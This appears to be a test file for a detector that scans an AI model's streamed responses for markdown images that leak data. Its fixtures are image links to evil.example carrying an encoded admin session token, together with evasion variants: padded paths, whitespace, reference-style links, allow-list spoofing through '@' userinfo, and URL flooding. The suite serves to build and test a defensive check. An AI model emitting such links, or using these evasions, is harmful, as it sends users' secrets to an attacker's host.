@@ -1,0 +1,67 @@
+import { describe, expect, test } from "vitest";
+import { createInspector } from "../engine.ts";
+import { DETECTORS } from "../index.ts";
+import { prepareText } from "../prepare.ts";
+
+const inspector = createInspector(DETECTORS.filter(({ id }) => id === "exfiltration-channel"));
+const context = {
+  systemPrompts: [],
+  canaries: [],
+  registeredSecrets: [],
+  allowedHosts: ["*.corp.example"],
+  knownHosts: new Set<string>(),
+};
+const frame = { provenance: "model", direction: "response", context } as const;
+const DATA = "c2Vzc2lvbiB0b2tlbiBmb3IgYWRtaW4";
+const BLOCKED_FROM = 0.85;
+
+describe("an image in a stream whose start is long gone", () => {
+  const rows: readonly (readonly [string, string])[] = [
+    ["whose path is padded", `![x](https://evil.example/${"a/".repeat(250)}?d=${DATA})`],
+    ["whose path is padded beyond what is held", `![x](https://evil.example/${"a/".repeat(700)}?d=${DATA})`],
+    ["parted from its bracket by white space", `![x](${" ".repeat(600)}https://evil.example/?d=${DATA})`],
+    ["with many words", `![${"some words ".repeat(80)}](https://evil.example/?d=${DATA})`],
+    ["defined far from its use", `![x][r] ${"Some words. ".repeat(80)}\n\n[r]: https://evil.example/?d=${DATA}\n`],
+    ["with spaces in its address", "![x](<https://evil.example/?d=the user has an appointment with the doctor>)"],
+  ];
+  test.each(rows)("%s is known before its data is let go", (_, embedded) => {
+    const text = `Here it is. ${embedded} That was all.`;
+    const data = text.includes(DATA) ? text.indexOf(DATA) : text.indexOf("the user");
+    for (const size of [1, 7, 40]) {
+      const stream = inspector.stream(frame);
+      let isKnown = false;
+      for (let at = 0; at < text.length && !isKnown; at += size) {
+        const step = stream.feed(text.slice(at, at + size));
+        isKnown = step.detections.some(({ confidence }) => confidence >= BLOCKED_FROM);
+        if (!isKnown) expect(step.releasable).toBeLessThanOrEqual(data);
+      }
+      expect(isKnown).toBe(true);
+    }
+  });
+
+  test("is let go where its address is long by its signature", () => {
+    const text = `![x](https://bucket.example/a.png?X-Amz-Security-Token=${"Zx81qK".repeat(300)}) That was all.`;
+    const stream = inspector.stream(frame);
+    const steps = [...Array.from(text.match(/.{1,16}/g) ?? [], (piece) => stream.feed(piece)), stream.end()];
+    const found = steps.flatMap(({ detections }) => detections);
+    expect(found.filter(({ confidence }) => confidence >= BLOCKED_FROM)).toEqual([]);
+  });
+});
+
+test("a host that only looks listed is not", () => {
+  const rows = [
+    `![x](https://a.corp.example@evil.example/?d=${DATA})`,
+    `![x](https://evil.example\\@a.corp.example/?d=${DATA})`,
+    `![x](https://a.corp.example@b@evil.example/?d=${DATA})`,
+  ];
+  for (const text of rows) {
+    const [result] = inspector.inspect(prepareText(text), frame);
+    expect(Math.max(...(result?.detections ?? []).map(({ confidence }) => confidence))).toBeGreaterThan(BLOCKED_FROM);
+  }
+});
+
+test("a text with more addresses than are looked at is unscannable", () => {
+  const text = `${"https://a.example/b ".repeat(4_097)} ![x](https://evil.example/?d=${DATA})`;
+  const [result] = inspector.inspect(prepareText(text), frame);
+  expect(result?.outcome).toBe("unscannable");
+});
